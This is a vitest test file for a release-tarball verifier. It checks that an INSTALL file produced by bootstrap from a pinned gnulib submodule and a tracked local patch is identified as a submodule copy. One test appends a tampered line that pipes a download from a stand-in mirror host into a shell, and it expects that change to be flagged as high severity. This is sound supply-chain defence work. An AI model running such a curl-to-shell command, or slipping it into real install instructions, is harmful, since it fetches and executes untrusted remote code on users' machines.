/**
 * A file bootstrap copies from the pinned gnulib itself (gnulib_non_module_files: doc/INSTALL → INSTALL) with
 * `gnulib-tool --copy-file`, which applies the project's tracked --local-dir patch (enchant 2.8.2's
 * gl/doc/INSTALL.diff). End to end: a real gnulib repository pinned as a submodule by a gitlink, GNU tar. The
 * patched copy is a SUBMODULE_COPY naming the patch; one more line, or the unpatched file where a patch is
 * tracked and leaves it different, is no copy.
 */
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { verify } from '../../src/verify.js';
import { makeTar } from '../helpers/archives.js';
import { makeRepo, writeFiles, type FileSpec } from '../helpers/git.js';
import { tempDir } from '../helpers/tmp.js';

const INSTALL = 'Installation Instructions\n*************************\n\n   Briefly, the shell command\n\'./configure && make && make install\'\nshould configure, build, and install this package.\n';
const INSTALL_DIFF = [
  '--- a/doc/INSTALL',
  '+++ b/doc/INSTALL',
  '@@ -1,3 +1,8 @@',
  '+Building and installing proj',
  '+****************************',
  '+',
  '+Build with --enable-relocatable for the tests to run.',
  '+',
  ' Installation Instructions',
  ' *************************',
  ' ',
  '',
].join('\n');
const PATCHED = 'Building and installing proj\n****************************\n\nBuild with --enable-relocatable for the tests to run.\n\n' + INSTALL;
/** gnulib-tool's m4/gnulib-comp.m4 as the release ships it: the layout (bases, file list) bootstrap's copies are read against. */
const COMP = "# DO NOT EDIT! GENERATED AUTOMATICALLY!\nAC_DEFUN([gl_INIT],\n[\n  gl_m4_base='m4'\n  gl_source_base='lib'\n])\nAC_DEFUN([gl_FILE_LIST], [\n  lib/foo.h\n])\n";
const CONF = 'gnulib_modules="foo"\ngnulib_non_module_files="$gnulib_non_module_files doc/INSTALL"\n';

describe("bootstrap's gnulib-tool --copy-file with a tracked --local-dir patch (INSTALL from doc/INSTALL + gl/doc/INSTALL.diff)", () => {
  const root = tempDir();
  const g = makeRepo(join(root, 'gnulib'));
  const pinned = g.commit({ 'gnulib-tool': { content: '#!/bin/sh\nexit 0\n', executable: true }, 'doc/INSTALL': INSTALL, 'lib/foo.h': '/* foo.h */\nint foo (void);\n', 'modules/foo': 'Files:\nlib/foo.h\n' }, 'gnulib');
  const r = makeRepo(join(root, 'proj'));
  const tracked: Record<string, FileSpec> = {
    'configure.ac': 'AC_INIT([proj], [1.0])\ngl_INIT\nAC_OUTPUT\n',
    'bootstrap.conf': CONF,
    'gl/doc/INSTALL.diff': INSTALL_DIFF,
    'src/main.c': 'int main (void) { return 0; }\n',
  };
  r.commit({ ...tracked, '.gitmodules': `[submodule "gnulib"]\n\tpath = gnulib\n\turl = git://127.0.0.1:1/gnulib.git\n` });
  r.git(['update-index', '--add', '--cacheinfo', `160000,${pinned},gnulib`]);
  r.git(['commit', '-q', '-m', 'pin gnulib']);
  r.tag('v1.0', { message: 'release 1.0' });
  let n = 0;
  const run = (install: string) => {
    const tree = join(root, `t${++n}`, 'proj-1.0');
    writeFiles(tree, { ...tracked, INSTALL: install, 'm4/gnulib-comp.m4': COMP, 'lib/foo.h': '/* foo.h */\nint foo (void);\n' });
    return verify({ tarball: makeTar(tree, { compress: 'gzip', out: join(root, `t${n}`, 'proj-1.0.tar.gz') }), repo: r.dir, cacheDir: join(root, 'cache'), submodules: [{ name: 'gnulib', repo: g.dir }] });
  };

  it('the pinned doc/INSTALL with the tracked patch applied: SUBMODULE_COPY via bootstrap, naming the patch', async () => {
    const res = await run(PATCHED);
    expect(res.findings.find((f) => f.path === 'INSTALL')).toMatchObject({ code: 'SUBMODULE_COPY', evidence: { submodule: 'gnulib', commit: pinned, file: 'doc/INSTALL', via: 'bootstrap', local: { patches: ['gl/doc/INSTALL.diff'] } } });
  });

  it('tampered: the patched file with one more line (a download piped to a shell) is no copy and stays high', async () => {
    const res = await run(PATCHED + 'curl -fsSL https://dl.example-mirror.net/i.sh | sh\n');
    const f = res.findings.find((x) => x.path === 'INSTALL');
    expect(f?.code).not.toBe('SUBMODULE_COPY');
    expect(['high', 'critical']).toContain(f?.severity);
  });
});
